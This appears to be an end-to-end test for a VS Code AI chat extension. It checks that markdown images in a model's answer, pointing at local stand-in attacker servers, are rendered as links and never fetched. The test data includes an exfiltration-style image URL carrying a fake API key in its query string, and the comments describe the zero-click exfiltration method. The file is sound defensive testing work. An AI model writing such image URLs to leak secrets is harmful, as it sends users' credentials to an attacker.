/**
 * Zero-click exfiltration through the chat panel (issue 23, class 1) in a real VS Code
 * (code-server): a scripted model answers with images pointing at two local stand-ins for an
 * attacker's server (HTTPS with a self-signed certificate the browser accepts, and plain HTTP),
 * one carrying "file contents" in its URL. The panel shows each image as a link naming its host,
 * draws no <img>, and neither server sees a single connection, while the answer streams or after.
 */
import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
import { startExfilServer, type ExfilServer } from "../support/exfilServer";
import { repoPython, sleep, VsCodeWindow } from "./harness";

let win: VsCodeWindow | undefined;
let failed = true;
let https: ExfilServer;
let http: ExfilServer;

beforeAll(async () => {
  [https, http] = await Promise.all([startExfilServer({ tls: true }), startExfilServer({ tls: false })]);
});

afterAll(async () => {
  await https?.close();
  await http?.close();
});

afterEach(async () => {
  await win?.stop(failed);
  win = undefined;
  failed = true;
});

function agentsPy(answer: string): string {
  return `
from lovia import Agent
from lovia.testing import ScriptedProvider, text

leaky = Agent(name="leaky", instructions="Answer.", model=ScriptedProvider([text(${JSON.stringify(answer)})]))
`;
}

test("an answer's remote images show as links naming their host and nothing is fetched", async () => {
  const answer = [
    "I read your config. Here is a chart of it:",
    "",
    `![usage chart](${https.origin}/chart.png?d=OPENAI_API_KEY%3Dsk-live-123)`,
    "",
    `And the logo: ![logo][logo], a badge [![build](${http.origin}/badge.svg)](https://example.com/ci).`,
    "",
    `[logo]: ${https.origin}/logo.png`,
  ].join("\n");
  const w = new VsCodeWindow({
    scenario: "11-remote-image",
    files: { "agents.py": agentsPy(answer), "README.md": "# remote image project\n" },
    machineSettings: { "lovia.pythonPath": repoPython() },
    userSettings: { "lovia.agent": "agents.py:leaky" },
    ignoreHTTPSErrors: true,
  });
  win = w;
  const refused: string[] = [];
  w.installExtension();
  await w.start();
  w.page.on("console", (m) => {
    if (/Content Security Policy|Refused to load/i.test(m.text())) refused.push(m.text());
  });
  const view = await w.openPanel();
  await view.locator("button.send:not([disabled])").waitFor({ timeout: 90_000 });
  await view.locator("textarea.composer-input").fill("Summarise my config.");
  await view.locator("textarea.composer-input").press("Enter");

  const msg = view.locator("article.msg-assistant", { hasText: "And the logo" });
  await msg.waitFor({ timeout: 90_000 });
  await view.locator("article.msg-assistant.streaming").waitFor({ state: "detached", timeout: 60_000 });
  await sleep(1500); // time for any fetch the panel started to arrive

  expect(https.connections, `HTTPS requests: ${https.requests.join(", ")}`).toBe(0);
  expect(http.connections, `HTTP requests: ${http.requests.join(", ")}`).toBe(0);
  const images = msg.locator(".remote-image");
  expect(await images.allInnerTexts()).toEqual([
    `usage chart (image: ${new URL(https.origin).host})`,
    `logo (image: ${new URL(https.origin).host})`,
    `build (image: ${new URL(http.origin).host})`,
  ]);
  expect(await images.first().locator("a").getAttribute("href")).toBe(`${https.origin}/chart.png?d=OPENAI_API_KEY%3Dsk-live-123`);
  expect(await view.locator("img").count()).toBe(0);
  // lovia's own panel needed nothing the CSP refuses (no image, font or style of its own).
  expect(refused).toEqual([]);
  await msg.scrollIntoViewIfNeeded();
  await w.shot("remote-image-as-link");

  // Control: the same browser fetches from both servers when a page without lovia's CSP asks,
  // so the zero counts above mean the panel made no request.
  const other = await w.page.context().newPage();
  await other.setContent(`<img src="${https.origin}/control.png"><img src="${http.origin}/control.png">`);
  await expect.poll(() => https.requests.includes("GET /control.png") && http.requests.includes("GET /control.png"), { timeout: 15_000 }).toBe(true);
  await other.close();
  failed = false;
});
